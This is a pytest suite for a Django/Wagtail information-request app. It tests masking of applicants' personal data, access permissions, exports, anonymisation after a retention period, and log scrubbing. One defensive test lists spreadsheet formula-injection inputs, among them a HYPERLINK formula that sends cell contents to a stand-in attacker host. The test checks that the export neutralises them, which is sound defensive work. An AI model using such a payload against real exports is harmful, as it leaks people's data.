"""Applicants' personal data: masking, permissions, the page API, retention and logging."""

import csv
import datetime
import io
import json
import logging

import pytest
from django.contrib.auth.models import AnonymousUser, Permission, User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import NoReverseMatch, reverse
from wagtail.models import ModelLogEntry

from tests import factories
from wagtail_disclosure.requests import permissions, retention, services
from wagtail_disclosure.requests.admin import InformationRequestViewSet
from wagtail_disclosure.requests.choices import Status
from wagtail_disclosure.requests.models import (
    InformationRequest,
    LetterDocument,
    Notification,
    RequestAttachment,
)

pytestmark = pytest.mark.django_db

D = datetime.date
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
NAME, ID_NUMBER, PHONE, EMAIL = "张三", factories.RESIDENT_ID, "13800138000", "zhangsan@example.com"
ADDRESS = "温州市鹿城区人民路1号"
PERSONAL = [NAME, ID_NUMBER, PHONE, EMAIL]
MASKED_ID, MASKED_PHONE, MASKED_EMAIL = "110***********002X", "138****8000", "z***@example.com"


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def make_user(username, *perms):
    user = User.objects.create_user(username, f"{username}@agency.example", "pw")
    for perm in perms:
        app_label, codename = perm.split(".")
        user.user_permissions.add(Permission.objects.get(content_type__app_label=app_label,
                                                         codename=codename))
    return User.objects.get(pk=user.pk)  # no stale permission cache


ADMIN = "wagtailadmin.access_admin"
VIEW = "wagtail_disclosure.view_informationrequest"
PROCESS = "wagtail_disclosure.process_informationrequest"
PERSONAL_DATA = "wagtail_disclosure.view_personal_data"


@pytest.fixture
def viewer():
    return make_user("viewer", ADMIN, VIEW)


@pytest.fixture
def full_viewer():
    return make_user("fullviewer", ADMIN, VIEW, PERSONAL_DATA)


@pytest.fixture
def nobody():
    return make_user("nobody", ADMIN)


def submitted(attachment_name="id.pdf", **overrides):
    """A stored request with an attachment (factories.information_request sends no files)."""
    from django.utils.datastructures import MultiValueDict

    from wagtail_disclosure.requests.forms import RequestForm

    files = MultiValueDict({"attachments": [SimpleUploadedFile(attachment_name, PDF)]})
    form = RequestForm(factories.request_data(**overrides), files)
    assert form.is_valid(), form.errors
    request_obj, _code = services.submit(form.cleaned_data, form.cleaned_data["attachments"],
                                         received_on=D(2025, 11, 3))
    return request_obj


@pytest.fixture
def request_obj():
    factories.request_form_page()
    return submitted()


# -- masked_fields -----------------------------------------------------------------------------


def test_masked_fields_without_permission(viewer, request_obj):
    masked = permissions.masked_fields(request_obj, viewer)
    assert masked["id_number"] == MASKED_ID
    assert masked["phone"] == MASKED_PHONE
    assert masked["email"] == MASKED_EMAIL
    assert masked["name"] == "张*"
    assert masked["address"] == "温州市鹿城区…"
    text = json.dumps(masked, ensure_ascii=False)
    for value in PERSONAL + [ADDRESS]:
        assert value not in text


def test_masked_fields_with_permission(full_viewer, request_obj):
    assert permissions.masked_fields(request_obj, full_viewer) == {
        "name": NAME, "id_number": ID_NUMBER, "phone": PHONE, "email": EMAIL,
        "address": ADDRESS, "legal_representative": ""}


def test_masked_fields_for_an_inactive_or_anonymous_user(full_viewer, request_obj):
    full_viewer.is_active = False
    assert permissions.masked_fields(request_obj, full_viewer)["id_number"] == MASKED_ID
    assert permissions.masked_fields(request_obj, AnonymousUser())["phone"] == MASKED_PHONE


def test_organisation_name_is_not_masked(viewer):
    org = factories.information_request(
        received_on=D(2025, 11, 3), applicant_type="organisation", organisation_kind="business",
        name="某某科技有限公司", id_type="", id_number="",
        organisation_code=factories.CREDIT_CODE, legal_representative="王五")
    assert permissions.masked_fields(org, viewer)["name"] == "某某科技有限公司"


@pytest.mark.parametrize(("value", "masked"), [
    ("", ""),
    ("1234567", "*******"),
    (ID_NUMBER, MASKED_ID),
    (PHONE, MASKED_PHONE),
    ("1234567890", "123****890"),
    # Short numbers (passports, 8-digit permits) keep at least 4 characters hidden, not one.
    ("E12345678", "E1****678"),
    ("12345678", "12****78"),
])
def test_mask(value, masked):
    assert permissions.mask(value) == masked
    assert len(masked) == len(value)


def test_other_identity_documents_are_masked(viewer):
    passport = factories.information_request(received_on=D(2025, 11, 3), id_type="passport",
                                             id_number="E12345678")
    masked = permissions.masked_fields(passport, viewer)["id_number"]
    assert masked.count("*") >= 4 and "2345" not in masked


# -- the admin ---------------------------------------------------------------------------------

LISTING = "/admin/disclosure/requests/"


def _csv(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return content.decode("utf-8-sig")


def test_listing_masks_for_a_viewer(client, viewer, request_obj):
    client.force_login(viewer)
    response = client.get(LISTING)
    assert response.status_code == 200
    html = response.content.decode()
    assert request_obj.tracking_number in html
    assert "张*" in html
    for value in PERSONAL:
        assert value not in html


def test_listing_shows_all_to_a_permitted_viewer(client, full_viewer, request_obj):
    client.force_login(full_viewer)
    html = client.get(LISTING).content.decode()
    assert request_obj.tracking_number in html and NAME in html


def test_csv_export_masks_for_a_viewer(client, viewer, request_obj):
    client.force_login(viewer)
    response = client.get(LISTING + "?export=csv")
    assert response.status_code == 200
    text = _csv(response)
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 2  # the heading and the request
    assert request_obj.tracking_number in text
    for value in (MASKED_ID, MASKED_PHONE, MASKED_EMAIL, "张*"):
        assert value in rows[1]
    for value in PERSONAL:
        assert value not in text


def test_csv_export_full_for_a_permitted_viewer(client, full_viewer, request_obj):
    client.force_login(full_viewer)
    response = client.get(LISTING + "?export=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(_csv(response))))
    for value in PERSONAL:
        assert value in rows[1]


@pytest.mark.parametrize("typed", ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+1",
                                   "-2+3", "@SUM(A1:A9)", "＝1+1"])
def test_csv_export_neutralises_spreadsheet_formulas(client, full_viewer, request_obj, typed):
    """Text the applicant typed is exported as text: a spreadsheet must not run it."""
    request_obj.description = typed
    request_obj.save(update_fields=["description"])
    client.force_login(full_viewer)
    rows = list(csv.reader(io.StringIO(_csv(client.get(LISTING + "?export=csv")))))
    _heading, row = rows
    assert row[InformationRequestViewSet.list_export.index("description")] == "'" + typed
    # ordinary text and numbers are untouched
    assert row[0] == request_obj.tracking_number


def test_csv_formula_guard_leaves_ordinary_values_alone():
    from wagtail_disclosure.requests.admin import neutralise_spreadsheet_formula

    for value in ("2026-000001", "张*", "138****5555", 20, None, "描述 = 内容"):
        assert neutralise_spreadsheet_formula(value) == value


def test_xlsx_export_masks_for_a_viewer(client, viewer, request_obj):
    openpyxl = pytest.importorskip("openpyxl")
    client.force_login(viewer)
    response = client.get(LISTING + "?export=xlsx")
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [str(c.value) for row in sheet.iter_rows() for c in row if c.value is not None]
    text = " ".join(cells)
    assert MASKED_ID in text
    for value in PERSONAL:
        assert value not in text


def test_detail_masks_for_a_viewer(client, viewer, request_obj):
    client.force_login(viewer)
    response = client.get(f"/admin/disclosure/requests/edit/{request_obj.pk}/")
    assert response.status_code == 200
    html = response.content.decode()
    assert MASKED_ID in html and MASKED_PHONE in html and MASKED_EMAIL in html
    for value in PERSONAL:
        assert value not in html


def test_detail_full_for_a_permitted_viewer(client, full_viewer, request_obj):
    client.force_login(full_viewer)
    html = client.get(f"/admin/disclosure/requests/edit/{request_obj.pk}/").content.decode()
    for value in PERSONAL:
        assert value in html


def test_attachments_only_for_users_who_may_see_personal_data(client, viewer, full_viewer,
                                                              request_obj):
    attachment = RequestAttachment.objects.get(request=request_obj)
    url = f"/admin/disclosure/requests/file/attachment/{attachment.pk}/"
    client.force_login(viewer)
    assert client.get(url).status_code in (302, 403)
    client.force_login(full_viewer)
    response = client.get(url)
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == PDF


def _urls(request_obj):
    pk = request_obj.pk
    return [LISTING, LISTING + "?export=csv", f"{LISTING}edit/{pk}/", f"{LISTING}new/"]


def test_no_request_permission_no_access(client, nobody, request_obj):
    client.force_login(nobody)
    for url in _urls(request_obj):
        response = client.get(url)
        assert response.status_code in (302, 403), url
        assert request_obj.tracking_number not in response.content.decode()
    attachment = RequestAttachment.objects.get(request=request_obj)
    assert client.get(f"{LISTING}file/attachment/{attachment.pk}/").status_code in (302, 403)
    for action in ("start", "withdraw", "close", "assign"):
        response = client.post(f"{LISTING}edit/{request_obj.pk}/action/{action}/",
                               {"withdraw-on": "2025-11-10", "close-outcome": "other"})
        assert response.status_code in (302, 403), action
    assert InformationRequest.objects.get(pk=request_obj.pk).status == Status.RECEIVED


def test_anonymous_is_sent_to_the_login(client, request_obj):
    for url in _urls(request_obj):
        response = client.get(url)
        assert response.status_code == 302 and "login" in response["Location"], url
    response = client.post(f"{LISTING}edit/{request_obj.pk}/action/start/")
    assert response.status_code == 302 and "login" in response["Location"]
    assert InformationRequest.objects.get(pk=request_obj.pk).status == Status.RECEIVED


def test_viewer_cannot_act(client, viewer, request_obj):
    client.force_login(viewer)
    for action in ("start", "withdraw"):
        response = client.post(f"{LISTING}edit/{request_obj.pk}/action/{action}/",
                               {"withdraw-on": "2025-11-10"})
        assert response.status_code in (302, 403)
    assert InformationRequest.objects.get(pk=request_obj.pk).status == Status.RECEIVED
    assert client.get(f"{LISTING}new/").status_code in (302, 403)


def test_requests_cannot_be_deleted(client, admin_user, request_obj):
    client.force_login(admin_user)
    assert client.get(f"{LISTING}delete/{request_obj.pk}/").status_code == 404
    assert client.post(f"{LISTING}delete/{request_obj.pk}/").status_code == 404
    with pytest.raises(NoReverseMatch):
        reverse("wagtail_disclosure_requests:delete", args=(request_obj.pk,))
    html = client.get(f"{LISTING}edit/{request_obj.pk}/").content.decode()
    assert "/delete/" not in html
    assert InformationRequest.objects.filter(pk=request_obj.pk).exists()


# -- the page API ------------------------------------------------------------------------------


def test_page_api_exposes_no_request_data(client, request_obj):
    services.record_reply(request_obj, None, "disclosed", "张三：予以公开。")
    page = factories.request_form_page()
    response = client.get("/api/v2/pages/?type=wagtail_disclosure.RequestFormPage&fields=*")
    assert response.status_code == 200
    data = response.json()
    assert data["meta"]["total_count"] == 1
    assert data["items"][0]["id"] == page.pk
    response = client.get(f"/api/v2/pages/{page.pk}/")
    assert response.status_code == 200
    for text in (json.dumps(data, ensure_ascii=False),
                 json.dumps(response.json(), ensure_ascii=False)):
        for value in PERSONAL + [request_obj.tracking_number, "农资储备资金", "予以公开"]:
            assert value not in text


# -- retention ---------------------------------------------------------------------------------


def _files(tmp_path):
    return [p for p in tmp_path.rglob("*") if p.is_file()]


def test_anonymise(tmp_path, django_capture_on_commit_callbacks):
    org = submitted(
        "licence.pdf", applicant_type="organisation", organisation_kind="research",
        name="某某研究院", id_type="", id_number="", organisation_code=factories.CREDIT_CODE,
        legal_representative="王五", contact_person="赵六", document_number="鹿供发〔2024〕5号",
        purpose="研究")
    with django_capture_on_commit_callbacks(execute=True):
        services.record_reply(org, None, "partially_disclosed", "某某研究院：部分公开。",
                              [SimpleUploadedFile("answer.pdf", PDF)], delivery="email",
                              answered_on=D(2025, 11, 20))
    assert len(_files(tmp_path)) == 2
    before = InformationRequest.objects.get(pk=org.pk)
    retention.anonymise(org)
    obj = InformationRequest.objects.get(pk=org.pk)
    assert obj.anonymised_at is not None
    for field in ("id_number", "organisation_code", "legal_representative", "contact_person",
                  "phone", "email", "address", "postcode", "document_number", "purpose"):
        assert getattr(obj, field) == "", field
    assert obj.name == retention.REMOVED and obj.description == retention.REMOVED
    # kept: what the annual report needs
    for field in ("applicant_type", "organisation_kind", "channel", "received_on",
                  "clock_started_on", "due_on", "answered_on", "status", "outcome",
                  "tracking_number", "reply_delivery"):
        assert getattr(obj, field) == getattr(before, field), field
    assert (obj.applicant_type, obj.organisation_kind, obj.status, obj.outcome) == (
        "organisation", "research", Status.ANSWERED, "partially_disclosed")
    # attachments and documents: rows and files gone
    assert not RequestAttachment.objects.filter(request=obj).exists()
    assert not LetterDocument.objects.filter(letter__request=obj).exists()
    assert _files(tmp_path) == []
    # letter texts replaced, emails scrubbed
    assert obj.letters.exists()
    for letter in obj.letters.all():
        assert "某某研究院" not in letter.body and "部分公开" not in letter.body
    for notification in Notification.objects.filter(request=obj):
        assert notification.recipient != EMAIL and "某某研究院" not in notification.body
    assert ModelLogEntry.objects.for_instance(obj).filter(
        action="wagtail_disclosure.request.anonymise").count() == 1
    # a second run changes nothing
    retention.anonymise(obj)
    assert ModelLogEntry.objects.for_instance(obj).filter(
        action="wagtail_disclosure.request.anonymise").count() == 1


def test_anonymise_natural_person(request_obj):
    retention.anonymise(request_obj)
    obj = InformationRequest.objects.get(pk=request_obj.pk)
    text = json.dumps({f.attname: str(getattr(obj, f.attname))
                       for f in obj._meta.concrete_fields}, ensure_ascii=False)
    for value in PERSONAL + [ADDRESS, "325000", "农资储备资金"]:
        assert value not in text
    assert obj.applicant_type == "natural_person"
    assert not Notification.objects.filter(request=obj, sent_at__isnull=True).exists()


def _finished(status, answered_on=None, closed_on=None, **extra):
    request_obj = factories.information_request(received_on=D(2025, 1, 6))
    InformationRequest.objects.filter(pk=request_obj.pk).update(
        status=status, answered_on=answered_on, closed_on=closed_on, **extra)
    return request_obj


def test_due_for_anonymisation_respects_the_retention_days(settings):
    settings.WAGTAIL_DISCLOSURE = {"PERSONAL_DATA_RETENTION_DAYS": 30}
    today = D(2025, 11, 15)  # cut-off: finished before 2025-10-16
    answered_long_ago = _finished(Status.ANSWERED, answered_on=D(2025, 10, 15))
    answered_recently = _finished(Status.ANSWERED, answered_on=D(2025, 10, 16))
    closed_long_ago = _finished(Status.CLOSED, closed_on=D(2025, 9, 1), outcome="other")
    withdrawn_long_ago = _finished(Status.WITHDRAWN, closed_on=D(2025, 9, 1), outcome="other")
    closed_recently = _finished(Status.CLOSED, closed_on=D(2025, 11, 1))
    # answered long ago, but closed (archived) only recently: kept from the closing date
    answered_then_closed = _finished(Status.CLOSED, answered_on=D(2025, 8, 1),
                                     closed_on=D(2025, 11, 10), outcome="disclosed")
    open_old = factories.information_request(received_on=D(2024, 1, 8))
    already = _finished(Status.ANSWERED, answered_on=D(2025, 1, 1))
    retention.anonymise(already)
    due = set(retention.due_for_anonymisation(today=today).values_list("pk", flat=True))
    assert due == {answered_long_ago.pk, closed_long_ago.pk, withdrawn_long_ago.pk}
    assert answered_recently.pk not in due and closed_recently.pk not in due
    assert answered_then_closed.pk not in due and open_old.pk not in due
    # an explicit number of days wins over the setting
    assert set(retention.due_for_anonymisation(today=today, days=0).values_list(
        "pk", flat=True)) == due | {answered_recently.pk, closed_recently.pk,
                                    answered_then_closed.pk}


def test_default_retention_is_five_years():
    old = _finished(Status.ANSWERED, answered_on=D(2020, 1, 1))
    recent = _finished(Status.ANSWERED, answered_on=D(2021, 6, 1))
    due = list(retention.due_for_anonymisation(today=D(2025, 11, 15)))
    assert due == [InformationRequest.objects.get(pk=old.pk)]
    assert recent.pk not in [r.pk for r in due]


def test_retention_none_keeps_everything(settings):
    settings.WAGTAIL_DISCLOSURE = {"PERSONAL_DATA_RETENTION_DAYS": None}
    _finished(Status.ANSWERED, answered_on=D(2000, 1, 1))
    _finished(Status.CLOSED, closed_on=D(2000, 1, 1))
    assert not retention.due_for_anonymisation(today=D(2025, 11, 15)).exists()


# -- logging -----------------------------------------------------------------------------------


class BrokenBackend:
    def __init__(self, *args, **kwargs):
        pass

    def send_messages(self, messages):
        raise ConnectionRefusedError(111, "Connection refused")


def test_logging_never_holds_personal_data(client, settings, caplog,
                                           django_capture_on_commit_callbacks):
    caplog.set_level(logging.DEBUG, logger="wagtail_disclosure")
    from django.core.cache import cache

    from wagtail_disclosure.requests import notifications

    cache.clear()
    page = factories.request_form_page()
    settings.EMAIL_BACKEND = "tests.test_requests_privacy.BrokenBackend"
    data = factories.request_data()
    data["attachments"] = SimpleUploadedFile("id.pdf", PDF, content_type="application/pdf")
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(page.get_url(), data)
    assert response.status_code == 302
    request_obj = InformationRequest.objects.get()
    with django_capture_on_commit_callbacks(execute=True):
        services.record_reply(request_obj, None, "disclosed", "张三：予以公开。",
                              delivery="email")
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    assert notifications.send_waiting() == 2
    records = [r for r in caplog.records if r.name.startswith("wagtail_disclosure")]
    assert len(records) >= 2  # the failed emails were logged
    text = caplog.text + "".join(r.getMessage() for r in records)
    for value in PERSONAL + [ADDRESS]:
        assert value not in text
